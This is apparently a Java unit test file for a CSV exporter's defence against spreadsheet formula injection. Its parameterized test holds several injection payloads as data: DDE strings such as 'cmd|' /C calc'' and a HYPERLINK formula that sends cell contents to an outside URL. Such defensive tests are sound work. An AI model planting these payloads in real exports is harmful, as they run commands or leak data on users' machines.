package io.llmlog.analytics.export;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.llmlog.analytics.ask.Asked;
import io.llmlog.analytics.ask.Selection;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvWriterTest {
    private static final String FORMULA = "=+-@\t\r\n";

    @Property
    void F46_noTextBeginsAFormula_andEachIsReadBackAsItWas(@ForAll("texts") String text) throws IOException {
        ObjectNode event =
                JsonNodeFactory.instance.objectNode().put("model", text).put("latency_ms", -5);
        event.putObject("labels").put("team", text);
        CSVRecord row =
                written(event.toString(), "latency_ms,model,labels.team").get(1);
        assertThat(row.get(0)).isEqualTo("-5");
        String readable = new String(text.getBytes(UTF_8), UTF_8);
        for (String cell : List.of(row.get(1), row.get(2))) {
            boolean formula = !text.isEmpty() && FORMULA.indexOf(text.charAt(0)) >= 0;
            assertThat(cell).isEqualTo(formula ? "'" + readable : readable);
            assertThat(cell.isEmpty() || FORMULA.indexOf(cell.charAt(0)) < 0).isTrue();
        }
    }

    @Provide
    static Arbitrary<String> texts() {
        Arbitrary<String> nasty =
                Arbitraries.strings().withChars("=+-@\t\r\n'\",;| a1(").ofMaxLength(12);
        // Wide forms of the signs are guarded, too: see below.
        Arbitrary<String> any = Arbitraries.strings()
                .filter(text -> text.isEmpty() || "\uFF1D\uFF0B\uFF0D\uFF20".indexOf(text.charAt(0)) < 0);
        return Arbitraries.frequencyOf(net.jqwik.api.Tuple.of(3, nasty), net.jqwik.api.Tuple.of(1, any));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://x/?\"&A1,\"y\")",
                "+1+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+9)*cmd|' /C calc'!A0",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "\uFF1D1+1",
                "\uFF0B1",
                "\uFF0D1",
                "\uFF20A"
            })
    void F46_whatASpreadsheetWouldComputeIsText(String formula) {
        assertThat(CsvCell.of(formula)).isEqualTo("'" + formula);
    }

    @Test
    void F46_aFieldsOwnNameIsNoFormulaEither() throws IOException {
        assertThat(written("{}", "@timestamp").get(0).get(0)).isEqualTo("'@timestamp");
    }

    @Test
    void arraysAndObjectsAreJson_whatIsAbsentIsEmpty() throws IOException {
        String event = "{\"tags\":[\"=a\",\"b,c\"],\"labels\":{\"x\":\"y\"},\"is_error\":true,\"cost_usd\":0.10}";
        List<CSVRecord> rows = written(event, "user_id,tags,labels,is_error,cost_usd");
        assertThat(rows.get(0)).containsExactly("user_id", "tags", "labels", "is_error", "cost_usd");
        assertThat(rows.get(1)).containsExactly("", "[\"=a\",\"b,c\"]", "{\"x\":\"y\"}", "true", "0.10");
    }

    @Test
    void linesEndAsRfc4180Says() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        write(out, "{\"model\":\"a \\\"b\\\"\"}", "event_id,model");
        assertThat(out.toString(UTF_8)).isEqualTo("event_id,model\r\n\"\",\"a \"\"b\"\"\"\r\n");
    }

    private static List<CSVRecord> written(String event, String fields) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        write(out, event, fields);
        try (CSVParser parser = CSVFormat.RFC4180.parse(new StringReader(out.toString(UTF_8)))) {
            return parser.getRecords();
        }
    }

    private static void write(ByteArrayOutputStream out, String event, String fields) throws IOException {
        Selection selection = Selection.read(new Asked(Map.of("fields", List.of(fields)), Instant.EPOCH));
        try (CsvWriter writer = new CsvWriter(out, selection.columns())) {
            writer.write(event);
            writer.finish();
        }
    }
}
